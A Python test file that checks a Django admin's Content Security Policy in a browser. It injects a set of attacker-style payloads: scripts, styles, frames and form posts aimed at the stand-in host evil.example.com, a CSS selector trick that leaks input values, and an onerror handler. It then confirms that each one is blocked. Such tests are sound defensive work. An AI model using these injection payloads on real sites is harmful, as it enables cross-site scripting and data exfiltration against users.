"""The content security policies: what they stop in a browser, and that each exception is needed."""

import re
from pathlib import Path

import pytest
import unfold
from django.conf import settings
from django.test import Client
from playwright.sync_api import Page

from backoffice.policies import STYLE, bare_policy, error_styles, hashes, unfold_policy
from tests.support.back_office import BackOffice

UNFOLD = Path(unfold.__file__).parent
ALPINE = UNFOLD / "static/unfold/js/alpine/alpine.js"

# What an attacker who gets markup into a page would try there.
ATTEMPTS = """() => {
    window.stopped = [];
    document.addEventListener("securitypolicyviolation", (event) => {
        window.stopped.push(event.effectiveDirective);
    });
    const put = (name, fields) => {
        document.body.append(Object.assign(document.createElement(name), fields));
    };
    put("script", { textContent: "window.ran = true" });
    put("script", { src: "https://evil.example.com/x.js" });
    put("script", { src: "data:text/javascript,window.ran = true" });
    put("style", { textContent: "input[value^=a] { background: url(/stolen) }" });
    put("link", { rel: "stylesheet", href: "https://evil.example.com/x.css" });
    put("img", { src: "https://evil.example.com/x.png" });
    put("img", { src: "data:image/png;base64,AAAA" });
    put("iframe", { src: "https://evil.example.com/" });
    put("object", { data: "https://evil.example.com/x.swf" });
    put("div", { innerHTML: "<img src=/nothing onerror='window.ran = true'>" });
    put("base", { href: "https://evil.example.com/" });
    fetch("https://evil.example.com/").catch(() => {});
    const form = document.createElement("form");
    Object.assign(form, { action: "https://evil.example.com/", method: "post" });
    document.body.append(form);
    form.submit();
}"""
STOPPED = {
    *("script-src-elem", "script-src-attr", "style-src-elem", "img-src", "frame-src"),
    *("object-src", "base-uri", "connect-src", "form-action"),
}


def templates() -> str:
    return "".join(path.read_text() for path in (UNFOLD / "templates").rglob("*.html"))


@pytest.mark.browser
def test_a_browser_does_nothing_that_was_planted(back_office: BackOffice, page: Page) -> None:
    """On the log-in page, whose policy is that of all of Unfold's."""
    page.goto(f"{back_office.url}/admin/login/")
    page.evaluate(ATTEMPTS)
    page.wait_for_function(f"new Set(window.stopped).size >= {len(STOPPED)}")
    assert set(page.evaluate("window.stopped")) == STOPPED
    assert page.evaluate("window.ran") is None
    # Alpine runs all the same, and Unfold's colours are there.
    assert page.evaluate("Alpine.version")
    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--color-primary-600')")


@pytest.mark.django_db
def test_the_policy_knows_the_style_that_the_pages_have(client: Client) -> None:
    page = client.get("/admin/login/")
    styles = STYLE.findall(page.content.decode())
    assert len(styles) == 1
    assert hashes(styles)[0] in page["Content-Security-Policy"]
    for address in ("/nothing", "/admin/login/"):
        styles = STYLE.findall(client.post(address).content.decode())
        for source in hashes(styles):
            assert source in client.get(address)["Content-Security-Policy"]


def test_error_pages_have_one_style() -> None:
    assert len(set(error_styles())) == 1
    assert bare_policy().count("sha256") == 1
    assert unfold_policy().count("sha256") == 2


def test_unfold_still_makes_code_of_attributes() -> None:
    """Where this fails, see whether 'unsafe-eval' can go: with Alpine's build for CSP, perhaps."""
    assert "async function(){}).constructor" in ALPINE.read_text()
    assert re.search(r'x-init="[^"]*=> localStorage', templates())


def test_unfold_still_writes_style_attributes() -> None:
    """Where this fails, see whether 'unsafe-inline' of style attributes can go."""
    assert re.search(r'x-bind:style="', templates())
    assert re.search(r'\sstyle="width: \{\{', templates())


def test_unfold_needs_no_other_exception() -> None:
    """No script within a page, and no attribute that runs one, in what the admin shows."""
    ours = "".join(path.read_text() for path in (settings.BASE_DIR / "templates").rglob("*.html"))
    shown = templates().replace(  # of forms that are made with crispy, which is not installed
        (UNFOLD / "templates/unfold_crispy/layout/table_inline_formset.html").read_text(), ""
    )
    for text in (ours, shown):
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text)
        assert not re.search(r"\son(click|load|error|submit|change|input)=", text)
        assert "javascript:" not in text
